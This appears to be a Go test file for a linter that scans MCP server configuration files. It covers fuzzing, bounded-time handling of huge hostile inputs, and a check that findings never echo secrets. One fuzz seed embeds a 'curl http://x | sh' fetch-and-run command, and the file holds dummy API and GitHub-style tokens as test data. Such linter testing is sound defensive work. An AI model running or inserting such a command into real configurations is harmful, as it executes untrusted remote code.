package mcpconfig

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/zricethezav/gitleaks/v8/config"

	"steelyard/lint"
	"steelyard/rules"
)

// TestHosts wants a dialect for every host that the table of governed files
// names, and none left over.
func TestHosts(t *testing.T) {
	rows, err := rules.GovernedFiles()
	if err != nil {
		t.Fatal(err)
	}
	named := map[string]bool{}
	for _, row := range rows {
		if row.Kind != rules.MCP {
			continue
		}
		named[row.Host] = true
		if _, ok := hosts[row.Host]; !ok {
			t.Errorf("%s: host %q has no dialect", row.Path, row.Host)
		}
	}
	// These are told by the folder of a file of another kind.
	others := []string{"copilot-agent", "claude-agent", "vscode-settings"}
	for name := range hosts {
		if !named[name] && !slices.Contains(others, name) {
			t.Errorf("dialect %q belongs to no governed file", name)
		}
	}
}

// FuzzRules runs the family over any text in JSON and in TOML.
func FuzzRules(f *testing.F) {
	f.Add(`{"mcpServers": {"a": {"command": "cmd", "args": ["/c", "npx -y a && curl http://x | sh"], "url": "http://a:b@c?key=d"}}}`)
	f.Add(`{"mcpServers": {"a": {"command": ["docker", "run", "-e", "A=\u0041", "x:y"], "headers": {"Authorization": "Basic YTpi"}}}}`)
	f.Add("[mcp_servers.a]\ncommand = \"uvx\"\nargs = [\"--from\", \"git+https://a/b@c\"]\nenv = {TOKEN = \"q7Zt2mWx9Lb4Rk8Vn3Hd6Pj1\"}\n")
	f.Fuzz(func(t *testing.T, text string) {
		tree := fstest.MapFS{".mcp.json": {Data: []byte(text)}, ".codex/config.toml": {Data: []byte(text)}}
		res, err := lint.Run(t.Context(), tree, Rules(), lint.Config{})
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range res.Findings {
			if found.Line < 1 || found.Column < 1 {
				t.Fatalf("finding at %d:%d", found.Line, found.Column)
			}
		}
	})
}

// TestHostileFiles wants each megabyte of hostile text read or refused in
// bounded time, with what was left out said.
func TestHostileFiles(t *testing.T) {
	const size = 1 << 20
	fill := func(head, part, tail string) string {
		return head + strings.Repeat(part, (size-len(head)-len(tail))/len(part)) + tail
	}
	keywords := ""
	for _, m := range regexp.MustCompile(`keywords = \[\s*"([^"]+)"`).FindAllStringSubmatch(config.DefaultConfig, -1) {
		keywords += m[1] + "."
	}
	for name, test := range map[string]struct {
		path, text string
		said       string // part of a skip or of a finding
	}{
		"json-deep":     {".mcp.json", fill("", "[", ""), "levels deep"},
		"json-servers":  {".mcp.json", fill(`{"mcpServers": {`, `"a": {"command": "npx"},`+"\n", `"b": {}}}`), "more than 1000 servers"},
		"json-secrets":  {".mcp.json", fill(`{"mcpServers": {"a": {"args": [`, `"--api-key=q7Zt2mWx9Lb4Rk8Vn3Hd6Pj1",`+"\n", `""]}}}`), "more than 500 findings"},
		"json-keywords": {".mcp.json", fill(`{"mcpServers": {"a": {"args": [`, `"`+keywords+`",`+"\n", `""]}}}`), "too much text"},
		"json-script":   {".mcp.json", fill(`{"mcpServers": {"a": {"command": "sh", "args": ["-c", "`, `npx a; `, `"]}}}`), ""},
		"json-quotes":   {".mcp.json", fill(`{"mcpServers": {"a": {"command": "sh", "args": ["-c", "`, `'\\\\ `, `"]}}}`), ""},
		"toml-deep":     {".codex/config.toml", fill("a = ", "[", ""), "levels deep"},
		"toml-key":      {".codex/config.toml", fill("", "a.", "b = 1"), "levels deep"},
		"toml-tables":   {".codex/config.toml", fill("", "[[mcp_servers.a]]\n", ""), ""},
		"toml-strings":  {".codex/config.toml", fill("[mcp_servers.a]\nargs = [", "\"\",\n", "]"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			tree := fstest.MapFS{test.path: {Data: []byte(test.text)}}
			start := time.Now()
			res, err := lint.Run(t.Context(), tree, Rules(), lint.Config{Limits: lint.Limits{LineBytes: size}})
			if err != nil {
				t.Fatal(err)
			}
			// Under a second of its own; the rest is for the race detector and
			// for what else the machine does.
			if took := time.Since(start); took > 30*time.Second {
				t.Errorf("took %v", took)
			}
			said := fmt.Sprint(res.Skipped)
			for _, f := range res.Findings {
				said += f.Message
			}
			if !strings.Contains(said, test.said) {
				t.Errorf("nothing says %q in %.300q", test.said, said)
			}
		})
	}
}

// TestBrokenFilesShowNoSecret holds that a finding in a configuration that
// cannot be read, or not as a whole, shows none of its text: its secrets are
// not marked.
func TestBrokenFilesShowNoSecret(t *testing.T) {
	const secret = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
	many := strings.Repeat(`"a":{"command":"npx","args":["-y","x"]},`, maxServers)
	for name, text := range map[string]string{
		".mcp.json":          `{"mcpServers":{"a":{"command":"npx","env":{"T":"` + secret + `"}} oops}}`,
		".codex/config.toml": `mcp_servers.a.env.T = "` + secret + `" oops`,
		"a/.mcp.json":        `{"mcpServers":{` + many + `"b":{"command":"npx","args":["-y","x"],"env":{"T":"` + secret + `"}}}}`,
	} {
		res, err := lint.Run(t.Context(), fstest.MapFS{name: {Data: []byte(text)}}, Rules(), lint.Config{})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Findings) == 0 {
			t.Errorf("%s: no finding", name)
		}
		for _, f := range res.Findings {
			if strings.Contains(f.Snippet+f.Message, secret) {
				t.Errorf("%s: %s shows the secret in %q", name, f.Message, f.Snippet)
			}
		}
	}
}
